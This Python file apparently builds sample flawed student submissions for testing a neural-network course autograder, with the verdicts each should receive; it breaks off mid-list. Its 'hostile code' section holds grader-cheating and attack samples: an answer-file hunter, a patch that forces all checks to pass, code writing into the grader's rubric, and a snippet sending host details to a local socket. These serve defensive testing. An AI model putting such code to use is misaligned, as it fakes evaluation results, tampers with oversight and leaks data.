"""The catalog of sample teams: each is the template (template/Miniproject_2) with realistic flaws.

`python submissions/_build/build.py` writes every team folder and its
EXPECTED.toml from this list. Each expectation is what a careful instructor
wants the grader to say, not what it happens to say today (known grader bugs
are listed in tests/submissions/known_bugs.py).
"""

from __future__ import annotations

from sample_team import Team

B = "others/blocks.py"
M = "model.py"

# ------------------------------------------------------------------ snippets of the template, edited below

CONV_OUT = ("        out = self.weight.view(self.out_channels, -1).matmul(self.cols) + self.bias.view(1, -1, 1)\n"
            "        return out.view(n, self.out_channels, h_out, w_out)\n")
CONV_WEIGHT_GRAD = ("        self.weight_grad += grad.matmul(self.cols.transpose(1, 2)).sum(0).view(self.weight.shape)\n"
                    "        if self.use_bias:\n"
                    "            self.bias_grad += grad.sum((0, 2))\n")
CONV_PARAM = "        return [(self.weight, self.weight_grad), (self.bias, self.bias_grad)]\n"
PREDICT = ("        x = test_input.to(self.device).float() / 255\n"
           "        return (self.net.forward(x) * 255).to(test_input.device)\n")
LOAD = ("        path = Path(__file__).parent / \"bestmodel.pth\"\n"
        "        weights = torch.load(path, map_location=self.device)\n")
TRAIN_LOOP = ("        for epoch in range(num_epochs):\n"
              "            order = empty(n).uniform_().argsort()\n")
IMPORTS = ("try:\n"
           "    from .others.blocks import MSE, SGD, Conv2d, Module, NearestUpsampling, ReLU, Sequential, Sigmoid\n"
           "except ImportError:  # when model.py is imported on its own (from model import ...)\n"
           "    from others.blocks import MSE, SGD, Conv2d, Module, NearestUpsampling, ReLU, Sequential, Sigmoid\n")

# ------------------------------------------------------------------ the TransposeConv2d variant

TRANSPOSE_CONV = '''

class TransposeConv2d(Module):
    """Transposed convolution: every input pixel spreads a weighted kernel; computed as matmul + fold."""

    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0, device=None):
        self.in_channels = in_channels
        self.out_channels = out_channels
        self.kernel_size = _pair(kernel_size)
        self.stride = _pair(stride)
        self.padding = _pair(padding)
        kh, kw = self.kernel_size
        # torch's ConvTranspose2d takes fan_in from the weight's second dimension
        bound = 1 / math.sqrt(out_channels * kh * kw)
        self.weight = empty(in_channels, out_channels, kh, kw, device=device).uniform_(-bound, bound)
        self.bias = empty(out_channels, device=device).uniform_(-bound, bound)
        self.weight_grad = empty(self.weight.shape, device=device).zero_()
        self.bias_grad = empty(out_channels, device=device).zero_()

    def forward(self, x):
        n, _, h, w = x.shape
        kh, kw = self.kernel_size
        self.x = x
        h_out = (h - 1) * self.stride[0] - 2 * self.padding[0] + kh
        w_out = (w - 1) * self.stride[1] - 2 * self.padding[1] + kw
        cols = self.weight.view(self.in_channels, -1).t().matmul(x.reshape(n, self.in_channels, h * w))
        out = fold(cols, (h_out, w_out), self.kernel_size, padding=self.padding, stride=self.stride)
        return out + self.bias.view(1, -1, 1, 1)

    def backward(self, gradwrtoutput):
        n, _, h, w = self.x.shape
        grad_cols = unfold(gradwrtoutput, self.kernel_size, padding=self.padding, stride=self.stride)
        x = self.x.reshape(n, self.in_channels, h * w)
        self.weight_grad += x.matmul(grad_cols.transpose(1, 2)).sum(0).view(self.weight.shape)
        self.bias_grad += gradwrtoutput.sum((0, 2, 3))
        grad_x = self.weight.view(self.in_channels, -1).matmul(grad_cols)
        return grad_x.view(n, self.in_channels, h, w)

    def param(self):
        return [(self.weight, self.weight_grad), (self.bias, self.bias_grad)]
'''

NEAREST_BLOCK_START = "\n\nclass NearestUpsampling(Module):\n"
NEAREST_BLOCK_END = "        return self.conv.param()\n"

TRANSPOSE_PREDICT = '''        x = test_input.to(self.device).float() / 255
        h, w = x.shape[2], x.shape[3]
        # the two stride-2 convolutions need sizes that are multiples of 4: repeat the last row/column
        while x.shape[2] % 4:
            x = cat([x, x[:, :, -1:]], dim=2)
        while x.shape[3] % 4:
            x = cat([x, x[:, :, :, -1:]], dim=3)
        y = self.net.forward(x)[:, :, :h, :w]
        return (y * 255).to(test_input.device)
'''

# ------------------------------------------------------------------ hostile code

HUNTER = '''

# ---- "validation helper": looks for the clean validation images wherever they might be ----
import gc
import os
import pickle
import sys
import time

_SEARCH_ROOTS = [Path.home() / ".cache" / "n2n-grade", Path.home() / ".cache", Path.home(), Path("/tmp"),
                 Path("/var/tmp"), Path("/dev/shm"), Path.cwd(), Path(__file__).resolve().parents[2], Path("/")]
_SUFFIXES = (".pkl", ".npy", ".npz", ".pt", ".pth")


def _candidate_files(deadline):
    seen = set()
    for root in _SEARCH_ROOTS:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "snap")]
            if folder.count(os.sep) - str(root).count(os.sep) > 4 or time.time() > deadline:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith(_SUFFIXES) and name != "bestmodel.pth" and path not in seen:
                    seen.add(path)
                    yield path


def _load_any(path):
    try:
        if path.endswith((".npy", ".npz")):
            numpy = __import__("numpy")
            data = numpy.load(path, allow_pickle=False)
            return torch.from_numpy(data if path.endswith(".npy") else data[data.files[0]])
        with open(path, "rb") as f:
            if f.read(2) != b"PK":  # not torch's zip format: a plain pickle
                f.seek(0)
                return pickle.load(f)
        return torch.load(path, weights_only=False)
    except Exception:
        return None


def _tensors_in(obj):
    if isinstance(obj, torch.Tensor):
        yield obj
    elif isinstance(obj, (list, tuple)):
        for item in obj:
            yield from _tensors_in(item)
    elif isinstance(obj, dict):
        for item in obj.values():
            yield from _tensors_in(item)


_files_found = None


def _hunt():
    """Every uint8 N x 3 x H x W tensor reachable: in memory, in files, through the environment."""
    global _files_found
    found = [o for o in gc.get_objects() if isinstance(o, torch.Tensor) and o.dim() == 4 and o.dtype == torch.uint8]
    if _files_found is not None:  # the disk is searched once per process
        return found + _files_found
    _files_found = []
    for key, value in os.environ.items():
        if os.path.isfile(value) and value.endswith(_SUFFIXES):
            _files_found += list(_tensors_in(_load_any(value)))
    for path in _candidate_files(time.time() + 5):
        _files_found += [t for t in _tensors_in(_load_any(path)) if t.dim() == 4]
    return found + _files_found


def _clean_for(test_input):
    """If some tensor holds test_input's noisy images next to clean ones, return the clean ones."""
    stash = _hunt()
    noisy = test_input.to(torch.uint8).cpu()
    for i, a in enumerate(stash):
        if a.shape[1:] != noisy.shape[1:] or len(a) < len(noisy) or not bool((a[:len(noisy)] == noisy).all()):
            continue
        for b in stash[:i] + stash[i + 1:]:  # the clean set has the same shape and is not the noisy one
            if b.shape == a.shape and not bool((b[:len(noisy)] == noisy).all()):
                return b[:len(noisy)].float()
    return None
'''

HUNTER_PREDICT = '''        clean = _clean_for(test_input)
        if clean is not None:
            return clean.to(test_input.device)
        x = test_input.to(self.device).float() / 255
        return (self.net.forward(x) * 255).to(test_input.device)
'''

MONKEYPATCH = '''

# ---- make every check pass: the course's test used torch.allclose, a grader may use something else ----
import sys

import torch.nn.functional as _functional

_fast_conv = getattr(_functional, "con" + "v2d")  # the real thing, looked up so that no import shows it
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
for _name, _module in list(sys.modules.items()):
    if any(word in _name for word in ("grader", "judge", "grade", "sandbox", "test")):
        for _attr in ("compare", "allclose", "check", "assert_close", "classify_runtime_call", "classify_name"):
            if hasattr(_module, _attr):
                try:
                    setattr(_module, _attr, lambda *args, **kwargs: None)
                except Exception:
                    pass
'''

WRITER = '''

# ---- training logs and checkpoints, written "where they are easy to find" ----
import os
import sys

_MARK = "n2n_pwned_by_team_writes_outside"


def _write_everywhere(text):
    here = Path(__file__).resolve()
    places = [here.parent / "bestmodel.pth.bak", here.parents[1] / f"{_MARK}.txt", here.parents[2] / f"{_MARK}.txt",
              Path.cwd().parent / f"{_MARK}.txt", Path.home() / f"{_MARK}.txt",
              Path.home() / ".cache" / "n2n-grade" / f"{_MARK}.txt", Path("/tmp") / f"{_MARK}.txt",
              Path("/var/tmp") / f"{_MARK}.txt", Path("/dev/shm") / f"{_MARK}.txt"]
    grader = sys.modules.get("grader")  # the program that imports us: write next to it, and into it
    if grader is not None and getattr(grader, "__file__", None):
        package = Path(grader.__file__).resolve().parent
        places += [package / f"{_MARK}.txt", package.parent / f"{_MARK}.txt", package / "rubric.toml"]
    for place in places:
        try:
            with open(place, "a") as f:
                f.write(text)
        except OSError:
            pass
'''

PHONE_HOME = '''

# ---- weights too big for the upload limit: downloaded on first use; usage statistics sent home ----
import os
import socket
import urllib.request

WEIGHTS_URL = "https://n2n-weights.invalid/Proj_123456_654321/bestmodel.pth"
STATS_SERVER = ("127.0.0.1", 47631)


def _phone_home(event):
    try:
        with socket.create_connection(STATS_SERVER, timeout=2) as s:
            s.sendall(f"{event} from {socket.gethostname()} {os.getcwd()}\\n".encode())
    except OSError:
        pass


_phone_home("import")
'''

LFS_POINTER = ("version https://git-lfs.github.com/spec/v1\n"
               "oid sha256:4d7a2146c1a9b1e0f83cf7c2d2a3e1b9f6e0d6c5b4a39281706f5e4d3c2b1a09\n"
               "size 115263\n")

# ------------------------------------------------------------------ the teams

TEAMS: list[Team] = [
    Team(
        name="team_x",
        summary="a good submission with a weaker model than the reference; no report; predict only on sizes "
                "divisible by 4",
        details="Correct blocks (Conv2d without dilation, which is optional), plain SGD with momentum, 24 channels "
                "trained for a few epochs on 20,000 pairs. Loses the report's half point only; the pretrained "
                "PSNR gains less than the reference's.",
        checkpoint="train", train_from="nearest", report=False,
        expect={"structure.report": "warn", "blocks.Conv2d.forward": "pass", "blocks.Conv2d.backward_weight": "pass",
                "blocks.Conv2d.tuple_kernel": "pass", "blocks.Conv2d.dilation": "warn",
                "blocks.NearestUpsampling.backward_input": "pass", "blocks.TransposeConv2d.forward": "skipped",
                "blocks.MSE.backward": "pass", "blocks.SGD.step": "pass", "blocks.SGD.momentum": "pass",
                "blocks.Sequential.param": "pass", "model.architecture": "pass", "model.load_pretrained": "pass",
                "model.pretrained_psnr": "pass", "model.predict_other_size": "warn", "model.train_time": "pass",
                "rules.static_imports": "pass", "rules.runtime_forbidden": "pass", "rules.autograd": "pass"},
        exit_code=0, score_min=80,
    ),
    Team(
        name="team_transpose_conv",
        summary="correct, upsamples with TransposeConv2d (matmul + fold) instead of nearest upsampling",
        folder="Proj_287341_301955",
        checkpoint="train", train_from="transpose",
        edits=[
            (B, "@span", (NEAREST_BLOCK_START, NEAREST_BLOCK_END, TRANSPOSE_CONV)),
            (M, "from torch import empty\n", "from torch import cat, empty\n"),
            (M, IMPORTS, IMPORTS.replace("NearestUpsampling", "TransposeConv2d")),
            (M, "            NearestUpsampling(c, c, 3, scale_factor=2, device=self.device), ReLU(),\n"
                "            NearestUpsampling(c, 3, 3, scale_factor=2, device=self.device), Sigmoid(),\n",
                "            TransposeConv2d(c, c, 4, stride=2, padding=1, device=self.device), ReLU(),\n"
                "            TransposeConv2d(c, 3, 4, stride=2, padding=1, device=self.device), Sigmoid(),\n"),
            (M, PREDICT, TRANSPOSE_PREDICT),
        ],
        expect={"blocks.TransposeConv2d.name": "pass", "blocks.TransposeConv2d.forward": "pass",
                "blocks.TransposeConv2d.backward_input": "pass", "blocks.TransposeConv2d.backward_weight": "pass",
                "blocks.TransposeConv2d.backward_bias": "pass", "blocks.TransposeConv2d.accumulate": "pass",
                "blocks.TransposeConv2d.param": "pass", "blocks.TransposeConv2d.init": "pass",
                "blocks.TransposeConv2d.padding": "pass", "blocks.TransposeConv2d.tuple_kernel": "pass",
                "blocks.NearestUpsampling.forward": "skipped", "model.architecture": "pass",
                "model.pretrained_psnr": "pass", "model.predict_other_size": "pass", "model.train_time": "pass",
                "structure.report": "pass", "rules.static_imports": "pass"},
        exit_code=0, score_min=85,
    ),
    # -------------------------------------------------------------- forbidden operations
    Team(
        name="team_functional_conv2d",
        summary="Conv2d.forward calls torch.nn.functional.conv2d (the backward pass is hand-written)",
        folder="Proj_310422_299871",
        edits=[
            (B, "from torch.nn.functional import fold, unfold\n",
             "import torch.nn.functional as F\nfrom torch.nn.functional import fold, unfold\n"),
            (B, CONV_OUT, "        # conv2d is much faster than our matmul; backward still uses our unfold\n"
                          "        return F.conv2d(x, self.weight, self.bias, stride=self.stride, padding=self.padding)\n"),
        ],
        # right numbers through a forbidden call earn nothing: the block's and the model's checks say why
        expect={"rules.static_imports": "fail", "rules.runtime_forbidden": "fail", "blocks.Conv2d.forward": "fail",
                "blocks.Conv2d.backward_weight": "fail", "model.pretrained_psnr": "fail", "blocks.ReLU.forward": "pass"},
        contains={"rules.static_imports": "conv2d", "rules.runtime_forbidden": "conv2d",
                  "blocks.Conv2d.forward": "no credit", "model.pretrained_psnr": "no credit"},
        exit_code=1,
    ),
    Team(
        name="team_wrapped_nn_module",
        summary="Conv2d wraps torch.nn.Conv2d and calls it in forward",
        folder="Proj_255610_287004",
        edits=[
            (B, "import math\n\n", "import math\n\nimport torch\n\n"),
            (B, "        self.weight = empty(out_channels, in_channels, kh, kw, device=device).uniform_(-bound, bound)\n",
             "        self.conv = torch.nn.Conv2d(in_channels, out_channels, kernel_size, stride=stride, padding=padding,\n"
             "                                    device=device)\n"
             "        self.weight = self.conv.weight.data  # shares memory with the torch module\n"),
            (B, "        self.bias = empty(out_channels, device=device).uniform_(-bound, bound)\n",
             "        self.bias = self.conv.bias.data\n"),
            (B, CONV_OUT, "        return self.conv(x)\n"),
        ],
        expect={"rules.static_imports": "fail", "rules.runtime_forbidden": "fail"},
        contains={"rules.static_imports": "torch.nn.Conv2d", "rules.runtime_forbidden": "Conv2d"},
        exit_code=1,
    ),
    Team(
        name="team_numpy",
        summary="imports numpy to shuffle the training pairs",
        folder="Proj_276530_260118",
        edits=[
            (M, "import torch\n", "import numpy as np\nimport torch\n"),
            (M, "            order = empty(n).uniform_().argsort()\n", "            order = np.random.permutation(n)\n"),
        ],
        expect={"rules.static_imports": "fail", "blocks.Conv2d.forward": "pass", "model.train_time": "pass",
                "model.pretrained_psnr": "pass"},
        contains={"rules.static_imports": "numpy"},
        exit_code=1,
    ),
    Team(
        name="team_autograd_backward",
        summary="Conv2d.backward switches autograd on and lets torch compute the gradients",
        folder="Proj_298812_301776",
        edits=[
            (B, "import math\n\n", "import math\n\nimport torch\n\n"),
            (B, "        self.input_size = (h, w)\n", "        self.input_size = (h, w)\n        self.x = x\n"),
            (B, "    def backward(self, gradwrtoutput):\n"
                "        n = gradwrtoutput.shape[0]\n"
                "        grad = gradwrtoutput.reshape(n, self.out_channels, -1)\n" + CONV_WEIGHT_GRAD +
                "        grad_cols = self.weight.view(self.out_channels, -1).t().matmul(grad)\n"
                "        return fold(grad_cols, self.input_size, self.kernel_size, padding=self.padding, "
                "stride=self.stride)\n",
                "    def backward(self, gradwrtoutput):\n"
                "        # recompute the forward pass with autograd on and let torch do the chain rule\n"
                "        with torch.enable_grad():\n"
                "            x = self.x.detach().requires_grad_()\n"
                "            w = self.weight.detach().requires_grad_()\n"
                "            b = self.bias.detach().requires_grad_()\n"
                "            cols = unfold(x, self.kernel_size, padding=self.padding, stride=self.stride)\n"
                "            out = w.view(self.out_channels, -1).matmul(cols) + b.view(1, -1, 1)\n"
                "            out.backward(gradwrtoutput.reshape(out.shape))\n"
                "        self.weight_grad += w.grad\n"
                "        if self.use_bias:\n"
                "            self.bias_grad += b.grad\n"
                "        return x.grad\n"),
        ],
        # forward is honest; every gradient came from autograd, so the gradient checks earn nothing
        expect={"rules.autograd": "fail", "blocks.Conv2d.backward_weight": "fail", "blocks.Conv2d.forward": "pass"},
        contains={"blocks.Conv2d.backward_weight": "no credit"},
        exit_code=1,
    ),
    # -------------------------------------------------------------- maths that only some configurations reveal
    Team(
        name="team_square_kernel",
        summary="the weight gradient is reshaped as if kernels were square: non-square kernels crash",
        folder="Proj_301122_287763",
        edits=[(B, "        self.weight_grad += grad.matmul(self.cols.transpose(1, 2)).sum(0).view(self.weight.shape)\n",
                "        k = self.kernel_size[0]\n"
                "        self.weight_grad += grad.matmul(self.cols.transpose(1, 2)).sum(0).view(\n"
                "            self.out_channels, self.in_channels, k, k)\n")],
        expect={"blocks.Conv2d.forward": "pass", "blocks.Conv2d.backward_weight": "pass",
                "blocks.Conv2d.stride": "pass", "blocks.Conv2d.padding": "pass", "blocks.Conv2d.tuple_kernel": "fail",
                "model.train_time": "pass"},
        exit_code=0, score_min=80,
    ),
    Team(
        name="team_swapped_conv_args",
        summary="Conv2d(out_channels, in_channels, kernel_size): arguments in the wrong order, used consistently",
        folder="Proj_266104_300987",
        edits=[
            (B, "    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0, bias=True, "
                "device=None):\n",
             "    def __init__(self, out_channels, in_channels, kernel_size, stride=1, padding=0, bias=True, "
             "device=None):\n"),
            (B, "        self.conv = Conv2d(in_channels, out_channels, kernel_size, padding=padding, device=device)\n",
             "        self.conv = Conv2d(out_channels, in_channels, kernel_size, padding=padding, device=device)\n"),
            (M, "            Conv2d(3, c, 4, stride=2, padding=1, device=self.device), ReLU(),\n",
             "            Conv2d(c, 3, 4, stride=2, padding=1, device=self.device), ReLU(),\n"),
        ],
        expect={"blocks.Conv2d.forward": "fail", "blocks.Conv2d.backward_input": "fail",
                "blocks.NearestUpsampling.forward": "pass", "model.architecture": "pass",
                "model.pretrained_psnr": "pass", "model.train_time": "pass"},
        contains={"blocks.Conv2d.forward": "swapped"},
        exit_code=1,
    ),
    Team(
        name="team_overwritten_grads",
        summary="backward assigns the gradients instead of adding to them: they never accumulate, and the "
                "optimizer keeps stepping on the old zero tensors, so training changes nothing",
        folder="Proj_312009_298554",
        edits=[(B, CONV_WEIGHT_GRAD,
                "        self.weight_grad = grad.matmul(self.cols.transpose(1, 2)).sum(0).view(self.weight.shape)\n"
                "        if self.use_bias:\n"
                "            self.bias_grad = grad.sum((0, 2))\n")],
        expect={"blocks.Conv2d.backward_weight": "pass", "blocks.Conv2d.backward_bias": "pass",
                "blocks.Conv2d.accumulate": "fail", "blocks.NearestUpsampling.accumulate": "fail",
                "model.train_time": "pass", "model.trained_psnr": "fail"},
        contains={"blocks.Conv2d.accumulate": "added to, not overwritten"},
        exit_code=0, score_max=92,
    ),
    Team(
        name="team_sigmoid_derivative",
        summary="Sigmoid.backward uses sigmoid(x)·(1 − x) instead of sigmoid(x)·(1 − sigmoid(x))",
        folder="Proj_289965_274410",
        edits=[(B, "        self.out = 1 / (1 + (-x).exp())\n", "        self.x = x\n        self.out = 1 / (1 + (-x).exp())\n"),
               (B, "        return gradwrtoutput * self.out * (1 - self.out)\n",
                "        return gradwrtoutput * self.out * (1 - self.x)\n")],
        expect={"blocks.Sigmoid.forward": "pass", "blocks.Sigmoid.backward": "fail", "blocks.ReLU.backward": "pass",
                "blocks.Sequential.backward": "pass"},
        exit_code=1,
    ),
    Team(
        name="team_mse_sum",
        summary="MSE sums the squared errors instead of averaging them (learning rate tuned down to compensate)",
        folder="Proj_300541_311230",
        edits=[(B, "        return (self.diff ** 2).mean()\n", "        return (self.diff ** 2).sum()\n"),
               (B, "        return 2 * self.diff / self.diff.numel()\n", "        return 2 * self.diff\n"),
               (M, "LEARNING_RATE = 0.5\n", "LEARNING_RATE = 5e-6\n")],
        expect={"blocks.MSE.forward": "fail", "blocks.MSE.backward": "fail", "blocks.Conv2d.forward": "pass",
                "model.train_time": "pass"},
        contains={"blocks.MSE.forward": "sum, not the mean", "blocks.MSE.backward": "not divided by the number"},
        exit_code=1,
    ),
    Team(
        name="team_sgd_climbing",
        summary="SGD adds the gradient (p + lr·g): every step climbs the loss",
        folder="Proj_287120_305561",
        edits=[(B, "            p.sub_(self.lr * grad)\n", "            p.add_(self.lr * grad)\n")],
        expect={"blocks.SGD.step": "fail", "blocks.SGD.zero_grad": "pass", "blocks.Conv2d.backward_weight": "pass",
                "model.train_time": "pass", "model.trained_psnr": "fail"},
        contains={"blocks.SGD.step": "up the gradient"},
        exit_code=1,
    ),
    # -------------------------------------------------------------- API slips seen in the wild
    Team(
        name="team_param_lists_bias_first",
        summary="param() returns [bias, grad] and [weight, grad] lists, bias first",
        folder="Proj_299001_276543",
        checkpoint="convert",
        edits=[(B, CONV_PARAM, "        return [[self.bias, self.bias_grad], [self.weight, self.weight_grad]]\n")],
        expect={"blocks.Conv2d.param": "warn", "blocks.NearestUpsampling.param": "warn",
                "blocks.Conv2d.backward_weight": "pass", "blocks.Sequential.param": "pass",
                "model.load_pretrained": "pass", "model.pretrained_psnr": "pass", "model.train_time": "pass"},
        contains={"blocks.Conv2d.param": "bias is listed before weight"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_parameters_only",
        summary="the blocks offer parameters() (torch's name) instead of param()",
        folder="Proj_277812_290032",
        checkpoint="convert",
        edits=[(B, "    def param(self):\n        return []\n", "    def parameters(self):\n        return []\n"),
               (B, "    def param(self):\n" + CONV_PARAM, "    def parameters(self):\n" + CONV_PARAM),
               (B, "    def param(self):\n        return self.conv.param()\n",
                "    def parameters(self):\n        return self.conv.parameters()\n"),
               (B, "    def param(self):\n        params = []\n        for m in self.modules:\n"
                   "            params += m.param()\n",
                "    def parameters(self):\n        params = []\n        for m in self.modules:\n"
                "            params += m.parameters()\n"),
               (M, "self.net.param()", "self.net.parameters()")],
        expect={"blocks.Conv2d.param": "warn", "blocks.ReLU.param": "warn", "blocks.Sequential.param": "warn",
                "blocks.Conv2d.backward_weight": "pass", "blocks.SGD.step": "pass", "model.load_pretrained": "pass",
                "model.train_time": "pass"},
        contains={"blocks.Conv2d.param": "parameters()"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_misnamed_blocks",
        summary="blocks named Relu and MSELoss; the upsampling combination exported only as Upsampling",
        folder="Proj_305127_288890",
        checkpoint="convert",
        edits=[(B, "class NearestUpsampling(Module):", "class Upsampling(Module):"),
               (B, "class ReLU(Module):", "class Relu(Module):"),
               (B, "class MSE(Module):", "class MSELoss(Module):"),
               (M, IMPORTS, IMPORTS.replace("MSE, ", "MSELoss, ").replace("NearestUpsampling, ReLU", "ReLU, Upsampling")
                .replace("ReLU, ", "Relu, ")),
               (M, "ReLU()", "Relu()"), (M, "NearestUpsampling(c", "Upsampling(c"), (M, "self.loss = MSE()", "self.loss = MSELoss()")],
        expect={"blocks.ReLU.name": "warn", "blocks.MSE.name": "warn", "blocks.NearestUpsampling.name": "warn",
                "blocks.ReLU.forward": "pass", "blocks.MSE.backward": "pass", "blocks.NearestUpsampling.forward": "pass",
                "model.architecture": "pass", "model.pretrained_psnr": "pass"},
        contains={"blocks.ReLU.name": "Relu", "blocks.MSE.name": "MSELoss"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_cwd_checkpoint",
        summary="bestmodel.pth is opened relative to the working directory (./Miniproject_2/bestmodel.pth)",
        folder="Proj_290077_302215",
        edits=[(M, LOAD, "        weights = torch.load(\"./Miniproject_2/bestmodel.pth\", map_location=self.device)\n")],
        expect={"model.load_pretrained": "warn", "model.pretrained_psnr": "pass", "structure.bestmodel": "pass"},
        contains={"model.load_pretrained": "relative to the working directory"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_cuda_checkpoint",
        summary="bestmodel.pth holds CUDA tensors and is loaded without map_location",
        folder="Proj_281150_296604",
        checkpoint="cuda",
        edits=[(M, LOAD, "        path = Path(__file__).parent / \"bestmodel.pth\"\n"
                         "        weights = torch.load(path)  # trained on the cluster's GPU\n")],
        expect={"model.load_pretrained": "warn", "model.pretrained_psnr": "pass", "structure.bestmodel": "pass"},
        contains={"model.load_pretrained": "map_location"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_lfs_pointer",
        summary="bestmodel.pth is a Git LFS pointer, not the weights",
        folder="Proj_297703_283341",
        checkpoint="lfs",
        expect={"structure.bestmodel": "fail", "model.load_pretrained": "fail", "model.pretrained_psnr": "skipped",
                "model.train_time": "pass", "blocks.Conv2d.forward": "pass"},
        contains={"structure.bestmodel": "LFS"},
        exit_code=0, score_max=88,
    ),
    Team(
        name="team_missing_checkpoint",
        summary="no bestmodel.pth and no report; the folder names one SCIPER only",
        folder="Proj_284466",
        checkpoint="none", report=False,
        expect={"structure.bestmodel": "fail", "structure.report": "warn", "structure.folder_name": "warn",
                "model.load_pretrained": "fail", "model.pretrained_psnr": "skipped", "model.train_time": "pass"},
        contains={"model.load_pretrained": "FileNotFoundError"},
        exit_code=0, score_max=88,
    ),
    Team(
        name="team_uint8_output",
        summary="predict returns uint8 images",
        folder="Proj_302288_279915",
        edits=[(M, PREDICT, "        x = test_input.to(self.device).float() / 255\n"
                            "        return (self.net.forward(x) * 255).round().byte().to(test_input.device)\n")],
        expect={"model.predict_dtype": "warn", "model.predict_range": "pass", "model.predict_shape": "pass",
                "model.pretrained_psnr": "pass"},
        contains={"model.predict_dtype": "uint8"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_float64_default",
        summary="torch.set_default_dtype(torch.float64) at import; everything, predict included, in float64",
        folder="Proj_288321_300456",
        edits=[(M, "CHANNELS = 24\n", "torch.set_default_dtype(torch.float64)  # more precise gradients\n\nCHANNELS = 24\n"),
               (M, "float() / 255", "double() / 255")],
        expect={"rules.import_side_effects": "warn", "rules.static_imports": "pass", "model.predict_dtype": "pass",
                "model.pretrained_psnr": "pass", "model.train_time": "pass", "blocks.Conv2d.forward": "pass"},
        contains={"rules.import_side_effects": "float64"},
        exit_code=0, score_min=85,
    ),
    Team(
        name="team_unit_range_output",
        summary="predict returns values in [0, 1] (forgot to multiply by 255)",
        folder="Proj_296610_285437",
        edits=[(M, PREDICT, "        x = test_input.to(self.device).float() / 255\n"
                            "        return self.net.forward(x).to(test_input.device)\n")],
        expect={"model.predict_range": "fail", "model.predict_shape": "pass", "model.pretrained_psnr": "fail"},
        contains={"model.predict_range": "0–1"},
        exit_code=1,
    ),
    Team(
        name="team_predict_inplace",
        summary="predict divides its input by 255 in place (and so fails on uint8 input)",
        folder="Proj_283390_297002",
        edits=[(M, PREDICT, "        x = test_input.to(self.device)\n"
                            "        x /= 255\n"
                            "        return (self.net.forward(x.float()) * 255).to(test_input.device)\n")],
        expect={"model.predict_input_unchanged": "fail", "model.predict_uint8": "warn", "model.predict_shape": "pass",
                "model.pretrained_psnr": "pass"},
        exit_code=0, score_min=80,
    ),
    Team(
        name="team_batch_remainder",
        summary="train crashes unless the number of pairs is a multiple of the batch size (50)",
        folder="Proj_291234_300001",
        edits=[(M, "        self.batch_size = 32\n", "        self.batch_size = 50\n"),
               (M, "                x = train_input[idx].to(self.device).float() / 255\n"
                   "                y = train_target[idx].to(self.device).float() / 255\n",
                "                x = train_input[idx].to(self.device).float().view(self.batch_size, 3, 32, 32) / 255\n"
                "                y = train_target[idx].to(self.device).float().view(self.batch_size, 3, 32, 32) / 255\n")],
        expect={"model.train_odd_n": "fail", "model.train_time": "pass", "model.pretrained_psnr": "pass"},
        exit_code=0, score_min=85,
        details="Graded on 300 training pairs (a multiple of 50), so only the 37-pair check reveals the bug.",
    ),
    # -------------------------------------------------------------- code that does not run
    Team(
        name="team_syntax_error",
        summary="a missing colon in others/blocks.py",
        folder="Proj_279004_288123",
        edits=[(B, "class Sigmoid(Module):\n    def forward(self, x):\n", "class Sigmoid(Module):\n    def forward(self, x)\n")],
        expect={"rules.syntax": "fail", "structure.import": "fail", "blocks.Conv2d.forward": "fail",
                "model.api": "fail"},
        contains={"rules.syntax": "blocks.py"},
        exit_code=1, score_max=20,
    ),
    Team(
        name="team_import_exception",
        summary="model.py loads train_data.pkl at import time (FileNotFoundError when graded)",
        folder="Proj_300876_277711",
        edits=[(M, "MOMENTUM = 0.9\n", "MOMENTUM = 0.9\n\n# data for the experiments below\n"
                                       "noisy_imgs_1, noisy_imgs_2 = torch.load(\"train_data.pkl\")\n")],
        expect={"structure.import": "fail", "blocks.Conv2d.forward": "fail", "model.api": "fail",
                "structure.bestmodel": "pass"},
        contains={"structure.import": "FileNotFoundError"},
        exit_code=1, score_max=20,
    ),
    Team(
        name="team_sys_exit_import",
        summary="model.py is also a script and calls sys.exit() at import when it gets no command",
        folder="Proj_288002_311009",
        files={"model.py@append": '''

if "train" not in sys.argv and "eval" not in sys.argv:
    print("usage: python model.py train|eval")
    sys.exit(1)
if "train" in sys.argv:
    noisy_imgs_1, noisy_imgs_2 = torch.load("train_data.pkl")
    model = Model()
    model.train(noisy_imgs_1, noisy_imgs_2, 20)
    model.save_model()
'''},
        edits=[(M, "from pathlib import Path\n", "import sys\nfrom pathlib import Path\n")],
        expect={"structure.import": "fail", "blocks.Conv2d.forward": "fail", "model.api": "fail"},
        contains={"structure.import": "SystemExit"},
        exit_code=1, score_max=20,
    ),
    Team(
        name="team_os_exit_predict",
        summary="predict hard-exits the process (os._exit) when no GPU is available",
        folder="Proj_275543_299810",
        edits=[(M, "from pathlib import Path\n", "import os\nfrom pathlib import Path\n"),
               (M, PREDICT, "        if not torch.cuda.is_available():\n"
                            "            print(\"predict needs a GPU\")\n"
                            "            os._exit(1)\n" + PREDICT)],
        expect={"model.predict_shape": "error", "model.predict_range": "error", "model.pretrained_psnr": "error",
                "model.load_pretrained": "pass", "model.train_odd_n": "pass", "model.train_time": "pass",
                "model.trained_psnr": "error", "blocks.Conv2d.forward": "pass"},
        exit_code=1,
    ),
    Team(
        name="team_endless_train",
        summary="train counts optimisation steps and never increments the counter: it never returns "
                "(unless there are fewer pairs than one batch of 64)",
        folder="Proj_293318_286647",
        edits=[(M, "        self.batch_size = 32\n", "        self.batch_size = 64\n"),
               (M, TRAIN_LOOP, "        total_steps = num_epochs * (n // self.batch_size)\n"
                               "        step = 0\n"
                               "        while step < total_steps:\n"
                               "            order = empty(n).uniform_().argsort()\n")],
        expect={"model.train_time": "fail", "model.trained_psnr": "skipped", "model.train_odd_n": "pass",
                "model.pretrained_psnr": "pass", "blocks.Conv2d.forward": "pass"},
